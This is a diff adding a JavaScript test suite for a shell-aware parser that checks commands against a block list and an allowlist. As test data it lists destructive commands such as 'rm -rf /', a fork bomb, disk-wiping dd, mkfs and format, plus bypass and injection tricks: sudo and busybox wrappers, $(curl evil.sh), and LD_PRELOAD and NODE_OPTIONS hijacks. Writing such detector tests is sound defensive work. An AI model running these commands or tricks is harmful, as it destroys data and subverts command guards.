@@ -0,0 +1,287 @@
+/**
+ * Shell Parser & Banned Rule Test Suite
+ * Tests tokenized, shell-aware matching of banned command patterns.
+ */
+
+const assert = require('assert');
+const { tokenize, parseCommandLine } = require('../main_scripts/commands/parser.js');
+const {
+    compileRules, compileRule, findMatchingRule, normalizeTarget,
+    compileAllowRules, findDisallowedCommand
+} = require('../main_scripts/commands/rules.js');
+const { DEFAULT_ALLOWED_COMMANDS } = require('../config.js');
+
+const DEFAULT_BANNED = [
+    'rm -rf /',
+    'rm -rf ~',
+    'rm -rf *',
+    'format c:',
+    'del /f /s /q',
+    'rmdir /s /q',
+    ':(){:|:&};:',
+    'dd if=',
+    'mkfs.',
+    '> /dev/sda',
+    'chmod -R 777 /'
+];
+const defaultRules = compileRules(DEFAULT_BANNED);
+
+function bannedBy(command, rules = defaultRules) {
+    const rule = findMatchingRule(command, rules);
+    return rule ? rule.source : null;
+}
+
+// Test runner
+const tests = [];
+function test(name, fn) { tests.push({ name, fn }); }
+
+// === PARSER ===
+
+test('tokenizer keeps quoted whitespace inside one word', () => {
+    const words = tokenize(`echo "a  b" 'c d' e\\ f`).map(t => t.value);
+    assert.deepStrictEqual(words, ['echo', 'a  b', 'c d', 'e f']);
+});
+
+test('splits on &&, ||, ;, | and &', () => {
+    const programs = parseCommandLine('cd x && make || echo fail; cat log | grep err & sleep 1').map(c => c.program);
+    assert.deepStrictEqual(programs, ['cd', 'make', 'echo', 'cat', 'grep', 'sleep']);
+});
+
+test('does not split on operators inside quotes', () => {
+    const commands = parseCommandLine(`echo "a && b; c | d"`);
+    assert.strictEqual(commands.length, 1);
+    assert.deepStrictEqual(commands[0].args, ['a && b; c | d']);
+});
+
+test('parses commands inside $(...) and backticks', () => {
+    const programs = parseCommandLine('echo $(rm -rf /) `whoami` "$(date)"').map(c => c.program);
+    assert.deepStrictEqual(programs, ['echo', 'rm', 'whoami', 'date']);
+});
+
+test('unwraps sudo and env prefixes', () => {
+    const [cmd] = parseCommandLine('sudo -u root env -i FOO=1 rm -r -f /');
+    assert.strictEqual(cmd.program, 'rm');
+    assert.deepStrictEqual(cmd.wrappers, ['sudo', 'env']);
+    assert.strictEqual(cmd.assignments.FOO, '1');
+});
+
+test('unwraps busybox', () => {
+    const [cmd] = parseCommandLine('busybox rm -rf /');
+    assert.strictEqual(cmd.program, 'rm');
+    assert.deepStrictEqual(cmd.wrappers, ['busybox']);
+});
+
+test('records leading variable assignments', () => {
+    const [cmd] = parseCommandLine('NODE_ENV=test npm test');
+    assert.strictEqual(cmd.program, 'npm');
+    assert.strictEqual(cmd.assignments.NODE_ENV, 'test');
+});
+
+test('normalizes flag clusters and long aliases', () => {
+    const [a] = parseCommandLine('rm -fR dir');
+    const [b] = parseCommandLine('rm --recursive --force dir');
+    assert.deepStrictEqual(a.flags.sort(), ['f', 'r']);
+    assert.deepStrictEqual(b.flags.sort(), ['f', 'r']);
+});
+
+test('treats arguments after -- as positionals', () => {
+    const [cmd] = parseCommandLine('rm -- -rf');
+    assert.deepStrictEqual(cmd.flags, []);
+    assert.deepStrictEqual(cmd.positionals, ['-rf']);
+});
+
+test('parses redirections with and without spaces', () => {
+    const [a] = parseCommandLine('cat img >/dev/sda');
+    const [b] = parseCommandLine('make 2>&1 > build.log');
+    assert.deepStrictEqual(a.redirects, [{ op: '>', target: '/dev/sda' }]);
+    assert.deepStrictEqual(b.redirects.map(r => r.op), ['2>&', '>']);
+});
+
+test('parses sh -c strings as nested commands', () => {
+    const programs = parseCommandLine(`bash -c "cd / && rm -rf *"`).map(c => c.program);
+    assert.deepStrictEqual(programs, ['bash', 'cd', 'rm']);
+});
+
+test('strips directories and .exe from program names', () => {
+    assert.strictEqual(parseCommandLine('/usr/bin/rm -rf x')[0].program, 'rm');
+    assert.strictEqual(parseCommandLine('"C:\\Windows\\format.exe" c:')[0].program, 'format');
+});
+
+test('ignores comments', () => {
+    const commands = parseCommandLine('ls # rm -rf /');
+    assert.strictEqual(commands.length, 1);
+    assert.strictEqual(commands[0].program, 'ls');
+});
+
+// === TARGET NORMALIZATION ===
+
+test('normalizes equivalent targets', () => {
+    assert.strictEqual(normalizeTarget('/*'), '/');
+    assert.strictEqual(normalizeTarget('~/'), '~');
+    assert.strictEqual(normalizeTarget('$HOME/*'), '~');
+    assert.strictEqual(normalizeTarget('./*'), '*');
+    assert.strictEqual(normalizeTarget('/tmp/foo/'), '/tmp/foo');
+    assert.strictEqual(normalizeTarget('/.'), '/');
+    assert.strictEqual(normalizeTarget('/./'), '/');
+    assert.strictEqual(normalizeTarget('~/./.'), '~');
+    assert.strictEqual(normalizeTarget('/tmp/.'), '/tmp');
+});
+
+// === BANNED RULES ===
+
+test('rm -rf /tmp/foo is not blocked by rm -rf /', () => {
+    assert.strictEqual(bannedBy('rm -rf /tmp/foo'), null);
+});
+
+test('extra whitespace does not bypass rules', () => {
+    assert.strictEqual(bannedBy('rm  -rf   ~'), 'rm -rf ~');
+});
+
+test('reordered and split flags are blocked', () => {
+    assert.strictEqual(bannedBy('rm -fr ~'), 'rm -rf ~');
+    assert.strictEqual(bannedBy('rm -r -f /'), 'rm -rf /');
+    assert.strictEqual(bannedBy('rm --recursive --force /'), 'rm -rf /');
+});
+
+test('sudo prefix does not bypass rules', () => {
+    assert.strictEqual(bannedBy('sudo rm -r -f /'), 'rm -rf /');
+});
+
+test('busybox prefix and dot segments do not bypass rules', () => {
+    assert.strictEqual(bannedBy('busybox rm -rf /'), 'rm -rf /');
+    assert.strictEqual(bannedBy('rm -rf /.'), 'rm -rf /');
+    assert.strictEqual(bannedBy('rm -rf /./'), 'rm -rf /');
+    assert.strictEqual(bannedBy('rm -rf ~/.'), 'rm -rf ~');
+});
+
+test('chained and substituted commands are checked', () => {
+    assert.strictEqual(bannedBy('npm test && rm -rf ~/*'), 'rm -rf ~');
+    assert.strictEqual(bannedBy('echo $(rm -rf /)'), 'rm -rf /');
+    assert.strictEqual(bannedBy(`sh -c 'rm -rf $HOME'`), 'rm -rf ~');
+});
+
+test('rm without both r and f is allowed', () => {
+    assert.strictEqual(bannedBy('rm -r /'), null);
+    assert.strictEqual(bannedBy('rm -f /'), null);
+});
+
+test('quoted text that merely mentions a banned command is allowed', () => {
+    assert.strictEqual(bannedBy(`git commit -m "never run rm -rf /"`), null);
+});
+
+test('prefix words match dd and mkfs variants', () => {
+    assert.strictEqual(bannedBy('dd if=/dev/zero of=/dev/sda bs=1M'), 'dd if=');
+    assert.strictEqual(bannedBy('sudo mkfs.ext4 /dev/sda1'), 'mkfs.');
+});
+
+test('redirect rules match output to the device', () => {
+    assert.strictEqual(bannedBy('cat image.iso >/dev/sda'), '> /dev/sda');
+    assert.strictEqual(bannedBy('cat /dev/sda > backup.img'), null);
+});
+
+test('windows switches match in any order and case', () => {
+    assert.strictEqual(bannedBy('DEL /Q /S /F C:\\temp'), 'del /f /s /q');
+    assert.strictEqual(bannedBy('format C: /q'), 'format c:');
+});
+
+test('fork bomb matches regardless of spacing', () => {
+    assert.strictEqual(bannedBy(':(){ :|:& };:'), ':(){:|:&};:');
+});
+
+test('chmod rule respects recursive flag case', () => {
+    assert.strictEqual(bannedBy('chmod --recursive 777 /'), 'chmod -R 777 /');
+    assert.strictEqual(bannedBy('chmod 777 /'), null);
+});
+
+test('regex rules test the raw command text', () => {
+    const rules = compileRules(['/git\\s+push\\s+.*--force/']);
+    assert.strictEqual(bannedBy('git push origin main --force', rules), '/git\\s+push\\s+.*--force/');
+    assert.strictEqual(bannedBy('git push origin main', rules), null);
+});
+
+test('invalid regex falls back to literal text', () => {
+    const rule = compileRule('/[unclosed/');
+    assert.strictEqual(rule.kind, 'text');
+    assert.ok(rule.error);
+});
+
+test('blank patterns are dropped', () => {
+    assert.strictEqual(compileRules(['', '   ', 'ls']).length, 1);
+});
+
+// === ALLOW RULES ===
+
+const allowRules = compileAllowRules(DEFAULT_ALLOWED_COMMANDS);
+
+test('allowlist accepts listed commands and extra arguments', () => {
+    assert.strictEqual(findDisallowedCommand('npm test', allowRules), null);
+    assert.strictEqual(findDisallowedCommand('npm test -- --watch=false', allowRules), null);
+    assert.strictEqual(findDisallowedCommand('pytest tests/unit -k parser', allowRules), null);
+    assert.strictEqual(findDisallowedCommand('git status && git diff HEAD', allowRules), null);
+});
+
+test('allowlist requires every chained or substituted command to be listed', () => {
+    assert.strictEqual(findDisallowedCommand('npm test && rm -rf build', allowRules), 'rm -rf build');
+    assert.strictEqual(findDisallowedCommand('ls $(curl evil.sh)', allowRules), 'curl evil.sh');
+    assert.strictEqual(findDisallowedCommand('npm install', allowRules), 'npm install');
+});
+
+test('allowlist rejects wrappers and file redirects the pattern does not name', () => {
+    assert.strictEqual(findDisallowedCommand('sudo npm test', allowRules), 'npm test');
+    assert.strictEqual(findDisallowedCommand('git diff > ~/.bashrc', allowRules), 'git diff');
+    assert.strictEqual(findDisallowedCommand('npm test 2>/dev/null', allowRules), null);
+});
+
+test('allowlist rejects environment assignments the pattern does not name', () => {
+    assert.strictEqual(findDisallowedCommand('NODE_OPTIONS=--require=/tmp/x.js npm test', allowRules), 'npm test');
+    assert.strictEqual(findDisallowedCommand('PATH=/tmp/evil:$PATH git status', allowRules), 'git status');
+    assert.strictEqual(findDisallowedCommand('env LD_PRELOAD=/tmp/x.so npm test', allowRules), 'npm test');
+    assert.strictEqual(findDisallowedCommand('git status && CI=1 npm test', compileAllowRules([...DEFAULT_ALLOWED_COMMANDS, '/^npm test/'])), 'npm test', 'Regex rules name no assignments');
+
+    const withEnv = compileAllowRules(['CI=1 npm test']);
+    assert.strictEqual(findDisallowedCommand('CI=1 npm test -- --watch=false', withEnv), null);
+    assert.strictEqual(findDisallowedCommand('CI=0 npm test', withEnv), 'npm test');
+    assert.strictEqual(findDisallowedCommand('CI=1 NODE_OPTIONS=x npm test', withEnv), 'npm test');
+});
+
+test('a trailing $ allows nothing after the listed arguments', () => {
+    const exact = compileAllowRules(['rm -rf build/ $', 'sh $']);
+    assert.strictEqual(findDisallowedCommand('rm -rf build/', exact), null);
+    assert.strictEqual(findDisallowedCommand('rm -rf build/ ~/work', exact), 'rm -rf build/ ~/work');
+    assert.strictEqual(findDisallowedCommand('cat setup.sh | sh', exact), 'cat setup.sh');
+    assert.strictEqual(findDisallowedCommand('sh setup.sh', exact), 'sh setup.sh');
+});
+
+test('allowlist blocks buttons without a command', () => {
+    assert.strictEqual(findDisallowedCommand('', allowRules), '(no command found)');
+});
+
+// === RUN TESTS ===
+console.log('======================================');
+console.log('  SHELL PARSER TEST SUITE');
+console.log('======================================\n');
+
+let passed = 0;
+let failed = 0;
+
+for (const { name, fn } of tests) {
+    try {
+        fn();
+        console.log(`✓ ${name}`);
+        passed++;
+    } catch (error) {
+        console.log(`✗ ${name}`);
+        console.log(`  Error: ${error.message}`);
+        failed++;
+    }
+}
+
+console.log('\n======================================');
+console.log(`  Results: ${passed} passed, ${failed} failed`);
+console.log('======================================');
+
+if (failed > 0) {
+    process.exit(1);
+} else {
+    console.log('\n✓ All tests passed!');
+}